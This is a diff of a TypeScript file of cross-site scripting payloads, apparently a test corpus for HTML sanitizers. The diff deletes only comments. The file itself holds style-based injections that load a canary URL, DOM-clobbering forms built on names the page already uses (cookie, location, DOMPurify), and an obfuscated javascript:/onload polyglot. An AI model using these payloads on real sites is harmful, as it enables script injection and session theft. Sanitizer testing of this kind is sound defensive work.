@@ -1,4 +1,3 @@
-// Attacks by styles, by names that shadow the page's own, and on many contexts at once.
 import { CANARY, crossed, words, type Payload } from './payload.ts'
 
 const STYLES: readonly ((js: string) => string)[] = [
@@ -32,7 +31,6 @@ const KEYFRAMES: readonly Payload[] = [
     `<style>@font-face{font-family:x;src:url(${CANARY}/${js.length}.woff)}p{font-family:x}</style><p>x</p>`,
 ]
 
-/** Names that the page's own objects have. */
 const TAKEN = words(`
   attributes childNodes parentNode innerHTML nodeName removeChild getElementById querySelector createElement currentScript cookie body head
   documentElement defaultView implementation location trustedTypes DOMPurify __proto__ constructor`)
@@ -45,7 +43,6 @@ const clobbering = crossed(
       : `<form tabindex=0 onfocus=${js}><input name=${name}><a id=${name} href="javascript:${js}">x</a></form>`,
 )
 
-/** Attacks in an attribute, a text, a script, a style or an address. */
 const EVERYWHERE: readonly Payload[] = [
   js =>
     `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`,
